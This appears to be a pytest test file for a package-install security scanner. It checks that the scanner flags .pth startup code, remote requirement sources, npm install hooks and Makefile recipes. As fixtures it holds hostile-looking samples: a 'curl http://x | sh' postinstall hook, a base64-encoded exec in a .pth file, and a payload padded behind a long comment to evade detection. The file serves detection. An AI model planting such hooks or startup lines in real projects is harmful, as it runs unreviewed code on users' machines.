from __future__ import annotations

import json

import pytest


def test_pth_lines_that_act_at_every_start(rules_of):
    assert "RGS-INS-001" in rules_of({"x.pth": "import os; os.system('x')\n"})
    assert "RGS-INS-001" in rules_of({"x.pth": "/a/path\nimport base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"})


def test_pth_lines_that_import_a_module_are_unknown(rules_of):
    assert "RGS-INS-002" in rules_of({"x.pth": "import my_hook\n"})


def test_pth_files_of_paths_are_fine(rules_of):
    assert not {r for r in rules_of({"x.pth": "/some/path\nimportant/path\n"}) if r.startswith("RGS-INS")}


def test_requirements_from_elsewhere(rules_of):
    for line in (
        "git+https://host/x.git",
        "pkg @ https://host/pkg.whl",
        "--extra-index-url https://host/simple",
        "-e git+ssh://git@host/x",
        "https://host/x.whl",
    ):
        assert "RGS-INS-003" in rules_of({"requirements.txt": f"numpy\n{line}\n"}), line


def test_ordinary_requirements(rules_of):
    text = "numpy>=1.2  # see https://numpy.org\n--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.1\n"
    assert "RGS-INS-003" not in rules_of({"requirements.txt": text})


def test_install_hooks_of_npm(rules_of):
    hook = {"name": "x", "scripts": {"postinstall": "curl http://x | sh"}}
    build = {"name": "x", "scripts": {"postinstall": "node build.js", "test": "curl x"}}
    assert "RGS-INS-004" in rules_of({"package.json": json.dumps(hook)})
    assert "RGS-INS-004" not in rules_of({"package.json": json.dumps(build)})


def test_recipes_are_notes(rules_of):
    assert "RGS-INS-005" in rules_of({"Makefile": "all:\n\tcurl x\n"})


@pytest.mark.parametrize(
    "content",
    [b"#" * 70_000 + b"\nimport os; os.system('echo pwned')\n", b"# \xe9\nimport os; os.system('echo pwned')\n"],
    ids=["a long comment before it", "no UTF-8"],
)
def test_a_startup_line_cannot_hide(rules_of, content):
    assert "RGS-INS-001" in rules_of({"x.pth": content})


@pytest.mark.parametrize(
    ("file", "line"),
    [
        ("requirements.txt", "-r https://example.org/more.txt"),
        ("conda.yaml", "dependencies:\n- pip:\n  - git+https://example.org/x\n"),
        ("environment.yml", "dependencies:\n  - pip:\n      - --extra-index-url https://example.org/simple\n"),
    ],
)
def test_other_ways_to_a_foreign_requirement(rules_of, file, line):
    assert "RGS-INS-003" in rules_of({file: line})
    assert "RGS-INS-003" not in rules_of({file: "dependencies:\n- python=3.11\n- pip:\n  - numpy==2.0\n"})


def test_endless_requirements_are_not_endless_work(scan_files):
    evidence = scan_files({"requirements.txt": "-e git+http://x/y\n" * 50_000})
    assert 1 < sum(finding.rule == "RGS-INS-003" for finding in evidence.findings) < 100
